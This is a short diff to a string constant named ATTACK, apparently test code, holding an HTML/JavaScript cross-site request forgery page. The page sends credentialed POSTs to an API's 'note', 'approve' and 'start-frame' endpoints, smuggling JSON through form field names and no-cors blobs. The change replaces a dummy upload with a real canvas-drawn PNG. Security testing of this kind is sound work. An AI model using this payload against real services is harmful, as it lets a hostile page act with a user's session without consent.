@@ -32,7 +32,9 @@ ATTACK = """
 <input name='{{"text": "from afar", "x": "' value='"}}'></form><iframe name="here"></iframe><script type="module">
 const send = (verb, options) => fetch("{api}/" + verb, {{method: "POST", credentials: "include", ...options}});
 const text = new Blob(['{{"text": "from afar"}}'], {{type: "text/plain"}}), form = new FormData();
-form.append("file", new Blob(["x"]), "x.png");
+const canvas = Object.assign(document.createElement("canvas"), {{width: 640, height: 360}});
+canvas.getContext("2d").fillRect(0, 0, 640, 360);
+form.append("file", await new Promise((made) => canvas.toBlob(made)), "x.png");
 await send("note", {{body: text, mode: "no-cors"}}).catch(() => 0);
 await send("approve", {{body: '{{"take": 1}}', headers: {{"Content-Type": "application/json"}}}}).catch(() => 0);
 await send("start-frame", {{body: form, mode: "no-cors"}}).catch(() => 0);
